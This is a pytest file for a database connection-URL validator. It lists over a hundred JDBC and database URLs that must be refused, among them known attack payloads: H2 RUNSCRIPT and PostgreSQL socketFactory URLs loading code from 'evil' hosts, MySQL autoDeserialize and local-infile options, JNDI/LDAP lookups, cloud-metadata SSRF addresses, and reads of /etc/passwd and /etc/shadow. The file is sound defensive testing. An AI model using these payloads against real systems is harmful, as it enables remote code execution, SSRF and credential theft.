"""Connection URLs that are refused: attacks, other kinds of systems, several hosts."""

from __future__ import annotations

import pytest

from connections import registry
from connections.sdk.errors import UrlInvalid
from connections.url.parse import check, parse_url

RULES = {kind: manifest.url for kind, manifest in registry.manifests().items() if manifest.url}
EXPECTED = {kind: rules.expected for kind, rules in RULES.items()}
# known attacks on JDBC tools (CVE-2021-45046 to CVE-2024-45537 and similar ones), and typing errors
ATTACKS = [
    "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
    "jdbc:postgresql://h/db?socketFactoryArg=http://evil/x.xml",
    "jdbc:postgresql://h/db?sslfactory=org.postgresql.ssl.SingleCertValidatingFactory",
    "jdbc:postgresql://h/db?loggerLevel=DEBUG&loggerFile=/var/www/x.jsp",
    "jdbc:postgresql://h/db?authenticationPluginClassName=x.Y",
    "jdbc:postgresql://h/db?preferQueryMode=simple",
    "jdbc:postgresql://h/db?options=-c%20role=postgres",
    "jdbc:postgresql://h/db?sslpasswordcallback=x.Y",
    "jdbc:postgresql://h,evil/db",
    "jdbc:postgresql://h:5432,evil:5432/db",
    "jdbc:postgresql://u:p@h/db",
    "jdbc:postgresql://h/db?user=postgres",
    "jdbc:postgresql://h/db?password=x",
    "jdbc:postgresql://h/db%3FsocketFactory=x",
    "jdbc:postgresql://h/../db",
    "postgresql://h/My Db",
    "postgresql://h/My%2520Db",
    "postgresql://h/%20Db",
    "postgresql://h/db%2F..%2Fx",
    "postgresql://h/db%00",
    "postgresql://h/db%ff",
    "postgresql://h/a%27b",
    "jdbc:mysql://h/db%3FallowLoadLocalInfile=true",
    "jdbc:as400://h/A%20B",
    "postgresql://%2Frun%2F..%2Fetc/db",
    "postgresql://%252Frun/db",
    "postgresql://%2Frun,%2Ftmp/db",
    "postgresql://%2Frun/db?host=/tmp",
    "jdbc:postgresql://%2Frun/db",
    "postgresql://u:secret@h/db",
    "postgresql://h/db?host=/tmp&host=/var",
    "postgresql://h/db?host=evil",
    "postgresql:///db?host=/tmp%00/x",
    "postgresql:///db?host=/tmp,evil",
    "postgresql:///db?host=%2e%2e/x",
    "postgresql:///db?service=x",
    "postgresql:///db?passfile=/etc/shadow",
    "jdbc:mysql://h/db?allowLoadLocalInfile=true",
    "jdbc:mysql://h/db?ALLOWLOADLOCALINFILE=true",
    "jdbc:mysql://h/db?%61llowLoadLocalInfile=true",
    "jdbc:mysql://h/db?%2561utoDeserialize=true",
    "jdbc:mysql://h/db?autoDeserialize=true&queryInterceptors=x.ServerStatusDiffInterceptor",
    "jdbc:mysql://h/db?allowUrlInLocalInfile=true",
    "jdbc:mysql://h/db?allowMultiQueries=true",
    "jdbc:mysql://h/db?sessionVariables=sql_mode=''",
    "jdbc:mysql://h/db?useSSL=true#&autoDeserialize=true",
    "jdbc:mysql://h/db?useSSL=true;autoDeserialize=true",
    "jdbc:mysql://address=(host=h)(port=3306)(autoDeserialize=true)/db",
    "jdbc:mysql://(host=h,allowLoadLocalInfile=true)/db",
    "jdbc:mysql://[host=h,allowLoadLocalInfile=true]/db",
    "jdbc:mysql:loadbalance://h/db",
    "jdbc:mysql:aws://h/db",
    "jdbc:mysql://h:3306/db\n?autoDeserialize=true",
    "jdbc:mysql://ｈ/db",
    "jdbc:mysql://h/d\uff1fx=y",
    "jdbc:mysql://root@h/db",
    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
    "jdbc:h2:mem:x;init=RUNSCRIPT FROM 'x'",
    "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3;INIT=x",
    "jdbc:h2:mem:x;MODE=MSSQLServer\\;INIT=x",
    "jdbc:h2:zip:/tmp/x.zip!/x",
    "jdbc:h2:file:/tmp/../etc/x",
    "jdbc:h2:file:/data/x;AUTO_SERVER=TRUE",
    "jdbc:h2:tcp://h/x;AUTHREALM=y",
    "jdbc:h2:mem:x;PASSWORD=y",
    "jdbc:db2://h:50000/SAMPLE:clientRerouteServerListJNDIName=ldap://evil/x;",
    "jdbc:db2://h:50000/SAMPLE:traceFile=/tmp/x;",
    "jdbc:as400://h;trace=true",
    "jdbc:as400://h;secondary URL=jdbc:mysql://evil/x",
    "jdbc:as400://h;prompt=true",
    "jdbc:as400://h;user=QSECOFR;password=x",
    "jdbc:sqlserver://h;databaseName=x;integratedSecurity=true;authenticationScheme=JavaKerberos",
    "jdbc:sqlserver://h;databaseName={x;y}",
    "jdbc:sqlserver://h;databaseName=x;databaseName=y",
    "jdbc:sqlserver://h;failoverPartner=evil",
    "jdbc:sqlserver://h;trustManagerClass=x.Y",
    "jdbc:sqlserver://;serverName=evil",
    "jdbc:oracle:thin:@ldap://evil/x",
    "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=evil)(PORT=1)))",
    "jdbc:oracle:oci:@prod",
    "jdbc:oracle:thin:scott/tiger@//h:1521/svc",
    "jdbc:oracle:thin:@//h:1521/svc?TNS_ADMIN=/tmp",
    "jdbc:clickhouse://h/db?custom_http_params=readonly=0",
    "jdbc:clickhouse:file:/etc/passwd",
    "jdbc:snowflake://a.b.com/?authenticator=externalbrowser",
    "jdbc:snowflake://a.b.com/?tracing=ALL",
    "jdbc:snowflake://a.b.com/db",
    "jdbc:sqlite::memory:",
    "jdbc:sqlite:http://evil/x.db",
    "jdbc:sqlite:file:/data/x.db?mode=rwc",
    "jdbc:sqlite:/data/x.db?enable_load_extension=true",
    "jdbc:sqlite::resource:x.db",
    "jdbc:sqlite:/proc/self/environ",
    "jdbc:sqlite:/data/../etc/x.db",
    "jdbc:sqlite:/data/\u202ebd.x",
    "jdbc:duckdb:md:prod",
    "jdbc:duckdb:s3://bucket/x.duckdb",
    "jdbc:duckdb:postgres:host=evil",
    "jdbc:duckdb:/x.duckdb;allow_unsigned_extensions=true",
    "jdbc:derby://h/x",
    "jdbc:hsqldb:file://h/x",
    "jdbc:avatica:remote://h/x",
    "jdbc:calcite://h/x",
    "jdbc:jndi://evil/x",
    "jdbc:p6spy:mysql://h/x",
    "jdbc:trino://h/x?KerberosConfigPath=/x",
    "jdbc:postgresql://169.254.169.254/latest",
    "jdbc:postgresql://[::ffff:169.254.169.254]/db",
    "jdbc:postgresql://[fe80::1%25eth0]/db",
    "jdbc:postgresql://2852039166/db",
    "jdbc:postgresql://0xa9.0xfe.0xa9.0xfe/db",
    "jdbc:postgresql://metadata.google.internal/db",
    "jdbc:postgresql://h:0/db",
    "jdbc:postgresql://h:99999/db",
    "jdbc:postgresql://h:54x/db",
    "jdbc:postgresql://-h/db",
    "jdbc:postgresql://h ost/db",
    "jdbc:postgresql:///db",
    "jdbc:postgresql:db",
    "jdbc:postgresql://h/db\0",
    " jdbc:postgresql://h/db",
    "http://h/db",
    "file:///etc/passwd",
    "",
    "jdbc:",
    "x" * 3000,
]


@pytest.mark.parametrize("url", ATTACKS)
def test_a_dangerous_or_invalid_url_is_refused(url: str) -> None:
    with pytest.raises(UrlInvalid):
        parse_url(url)
    for kind in ("jdbc", "sqlite", "duckdb", "postgresql"):
        if not url.startswith("jdbc:" + kind) and not url.startswith(kind):
            with pytest.raises(UrlInvalid):
                parse_url(url, kind)


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:mysql://u:S3cret@h/db",
        "jdbc:mysql://u:S3/cret@h/db",
        "jdbc:mysql://u:S3cret",
        "jdbc:mysql://h/db?password=S3cret",
        "jdbc:mysql://h/db?password=a&S3cret=x",
        "postgresql://u:S3cret@h/db",
        "jdbc:oracle:thin:u/S3cret@//h:1/x",
        "jdbc:sqlserver://h;user=u;password=S3cret",
        "jdbc:h2:mem:S3cret S3cret",
    ],
)
def test_an_error_message_does_not_contain_what_may_be_a_password(url: str) -> None:
    with pytest.raises(UrlInvalid) as caught:
        parse_url(url)
    assert "S3" not in caught.value.message + caught.value.hint + caught.value.detail


def test_a_url_of_another_kind_is_refused_with_the_expected_form() -> None:
    with pytest.raises(UrlInvalid, match="for mysql; the connection's driver is postgresql") as caught:
        check("jdbc:mysql://h/db", "postgresql")
    assert EXPECTED["postgresql"] in caught.value.hint


@pytest.mark.parametrize("url", ["postgresql+psycopg2://u:pw-4711@h/db", "postgresql+asyncpg://h/db"])
def test_a_sqlalchemy_url_is_recognized_and_refused_with_the_expected_form(url: str) -> None:
    with pytest.raises(UrlInvalid, match="as in SQLAlchemy's URLs") as caught:
        check(url, "postgresql")
    assert EXPECTED["postgresql"] in caught.value.hint
    assert "4711" not in str(caught.value.as_dict())


@pytest.mark.parametrize(
    ("url", "kind"), [("redshift://h/db", "postgresql"), ("s3://b/x.duckdb", "duckdb"), ("mssql://h", "sqlserver")]
)
def test_a_url_with_an_unknown_scheme_is_not_read_as_a_path(url: str, kind: str) -> None:
    with pytest.raises(UrlInvalid, match="scheme is unknown") as caught:
        check(url, kind)
    assert EXPECTED[kind] in caught.value.hint


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://a,b/db",
        "postgresql://a:5432,b:5433/db",
        "postgresql:///db?host=a,b",
        "jdbc:postgresql://a:5432,b/db",
        "jdbc:mysql://a:3306,b:3306/db",
        "jdbc:sqlserver://a,b;databaseName=x",
        "jdbc:oracle:thin:@//a,b:1521/x",
    ],
)
def test_several_hosts_are_refused_with_that_reason(url: str) -> None:
    with pytest.raises(UrlInvalid, match="names several hosts"):
        parse_url(url)


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("jdbc:postgresql://%2Frun%2Fpostgresql/dw", "in JDBC form cannot name a socket"),
        ("jdbc:postgresql:///dw?host=/run/postgresql", "in JDBC form cannot name a socket"),
        ("postgresql:///dw", "The URL names no host"),
        ("jdbc:postgresql:///dw", "The URL names no host"),
        ("postgresql://run/postgresql/dw?host=/run/postgresql", "the host twice"),
    ],
)
def test_the_error_for_the_url_of_a_socket_shows_its_form(url: str, message: str) -> None:
    with pytest.raises(UrlInvalid, match=message) as refused:
        check(url, "postgresql")
    assert "postgresql:///database?host=/run/postgresql" in refused.value.hint
    check("postgresql:///database?host=/run/postgresql", "postgresql")
